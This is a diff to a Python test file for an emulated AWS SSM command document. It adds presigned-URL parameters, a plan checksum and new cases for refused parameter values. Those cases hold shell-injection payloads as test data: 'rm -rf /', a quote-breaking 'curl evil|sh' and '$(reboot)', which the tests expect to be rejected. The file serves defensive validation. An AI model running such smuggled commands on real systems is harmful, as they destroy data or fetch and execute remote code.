@@ -13,9 +13,12 @@ from storagebench_local.ssm.document import (
 from storagebench_local.template import Template
 
 GIVEN = {
-    "AgentUri": ["s3://bucket/agents/agent.pyz"],
+    "AgentUrl": [
+        "https://bucket.s3.eu-west-1.amazonaws.com/agent/agent.pyz?X-Amz-Signature=ab%2Fc&X-Amz-Expires=3600"
+    ],
     "AgentSha256": ["a" * 64],
-    "PlanUri": ["s3://bucket/runs/r/c/plan.json"],
+    "PlanUrl": ["https://bucket.s3.eu-west-1.amazonaws.com/runs/r/c/plan.json?X-Amz-Signature=de"],
+    "PlanSha256": ["b" * 64],
     "OutputUri": ["s3://bucket/runs/r/c/agent/"],
     "TaskToken": ["token-1"],
     "Region": ["eu-west-1"],
@@ -31,9 +34,14 @@ def test_every_placeholder_is_substituted_and_defaults_apply(document: CommandDo
     [step] = document.render(GIVEN)
     assert step.name == "runAgent" and step.timeout_s == 43200  # executionTimeout's default
     assert "{{" not in step.script
-    assert "export AWS_DEFAULT_REGION='eu-west-1'" in step.script
-    assert "timeout '120' tail" in step.script  # HeartbeatSeconds' default
+    assert "--region 'eu-west-1'" in step.script
+    assert "--heartbeat-s '120'" in step.script  # HeartbeatSeconds' default
     assert f"echo '{'a' * 64}  agent.pyz' | sha256sum --check" in step.script
+    assert f"--plan-sha256 '{'b' * 64}'" in step.script
+    assert (
+        "'https://bucket.s3.eu-west-1.amazonaws.com/agent/agent.pyz?X-Amz-Signature=ab%2Fc&X-Amz-Expires=3600'"
+        in (step.script)
+    )
 
 
 def test_the_step_timeout_is_the_execution_timeout_given(document: CommandDocument) -> None:
@@ -49,6 +57,10 @@ def test_the_step_timeout_is_the_execution_timeout_given(document: CommandDocume
         ({"executionTimeout": ["1; rm -rf /"]}, "executionTimeout: '1; rm -rf /' does not match"),
         ({"Unknown": ["x"]}, "Unknown: not a parameter of this document"),
         ({"Region": ["a", "b"]}, "Region: a String parameter takes exactly one value"),
+        # a value that would leave its single quotes in the shell is refused before it runs
+        ({"PlanUrl": ["https://x/p' ; curl evil|sh '"]}, "PlanUrl: .* does not match allowedPattern"),
+        ({"TaskToken": ["t'$(reboot)'"]}, "TaskToken: .* does not match allowedPattern"),
+        ({"OutputUri": ["s3://bucket/a b"]}, "OutputUri: 's3://bucket/a b' does not match"),
     ],
 )
 def test_parameters_ssm_would_refuse_are_refused_with_their_name(
